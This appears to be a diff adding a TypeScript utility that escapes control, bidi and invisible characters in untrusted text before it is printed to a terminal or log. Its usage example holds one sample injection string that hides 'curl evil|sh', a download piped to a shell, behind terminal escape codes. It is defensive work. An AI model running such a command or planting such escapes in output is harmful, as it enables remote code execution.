@@ -1,0 +1,87 @@
+/**
+ * `escapeForTerminal`: makes text that came from the network safe to print
+ * on a terminal or write to a log. Control characters (which can move the
+ * cursor, rewrite a line or drive the terminal), bidirectional overrides
+ * (which reorder what is shown) and invisible characters (which hide what is
+ * there) are shown as visible escapes, and long values are cut with a marker
+ * saying how much was left out. Backslashes are doubled so that an escape
+ * can always be told from text that merely looks like one.
+ *
+ * @module
+ */
+
+/** Options of {@linkcode escapeForTerminal}. */
+export interface EscapeForTerminalOptions {
+  /**
+   * Most characters kept (counted in code points, before escaping); the rest is replaced
+   * by a marker. 0 keeps everything.
+   * @default {200}
+   */
+  maxLength?: number;
+}
+
+/** Default number of characters kept by {@linkcode escapeForTerminal}. */
+export const DEFAULT_ESCAPE_MAX_LENGTH = 200;
+
+/**
+ * Escapes `text` for display: C0 controls and DEL as `\xNN`, C1 controls, bidirectional
+ * controls, zero-width and other invisible format characters, line/paragraph separators and
+ * lone surrogates as `\u{…}`, a backslash as `\\`; text longer than `maxLength` characters
+ * is cut and ends with `…[N more characters]`.
+ *
+ * @param text untrusted text
+ * @param options where to cut
+ * @returns text that prints as one visible line
+ *
+ * @example Usage
+ * ```ts
+ * import { escapeForTerminal } from "./escape_for_terminal.ts";
+ * console.log(escapeForTerminal("ls\r\x1b[2Kcurl evil|sh")); // ls\x0d\x1b[2Kcurl evil|sh
+ * ```
+ */
+export function escapeForTerminal(text: string, options: EscapeForTerminalOptions = {}): string {
+  const max = options.maxLength ?? DEFAULT_ESCAPE_MAX_LENGTH;
+  let out = "";
+  let count = 0;
+  let total = 0;
+  for (const ch of text) {
+    total++;
+    if (max > 0 && count >= max) continue;
+    count++;
+    out += escapeChar(ch);
+  }
+  if (total > count) out += `…[${total - count} more characters]`;
+  return out;
+}
+
+function escapeChar(ch: string): string {
+  const cp = ch.codePointAt(0)!;
+  if (cp === 0x5c) return "\\\\";
+  if (cp < 0x20 || cp === 0x7f) return `\\x${cp.toString(16).padStart(2, "0")}`;
+  if (cp < 0x80) return ch;
+  if (isHidden(cp)) return `\\u{${cp.toString(16)}}`;
+  return ch;
+}
+
+/** Characters that act on the display or show nothing. */
+function isHidden(cp: number): boolean {
+  return (cp >= 0x80 && cp <= 0x9f) || // C1 controls (CSI is 0x9b)
+    cp === 0xad || // soft hyphen
+    cp === 0x34f || // combining grapheme joiner
+    cp === 0x61c || // Arabic letter mark
+    cp === 0x115f || cp === 0x1160 || // Hangul fillers
+    cp === 0x17b4 || cp === 0x17b5 ||
+    cp === 0x180e || // Mongolian vowel separator
+    (cp >= 0x200b && cp <= 0x200f) || // zero-width space/joiners, LRM, RLM
+    (cp >= 0x2028 && cp <= 0x202e) || // line/paragraph separators, bidi embeddings/overrides
+    (cp >= 0x2060 && cp <= 0x206f) || // word joiner, invisible operators, bidi isolates
+    cp === 0x3164 || // Hangul filler
+    (cp >= 0xd800 && cp <= 0xdfff) || // lone surrogates
+    (cp >= 0xfe00 && cp <= 0xfe0f) || // variation selectors
+    cp === 0xfeff || // zero-width no-break space (BOM)
+    cp === 0xffa0 ||
+    (cp >= 0xfff9 && cp <= 0xfffb) || // interlinear annotation controls
+    (cp >= 0x1d173 && cp <= 0x1d17a) ||
+    (cp >= 0xe0000 && cp <= 0xe007f) || // tag characters
+    (cp >= 0xe0100 && cp <= 0xe01ef); // variation selectors supplement
+}
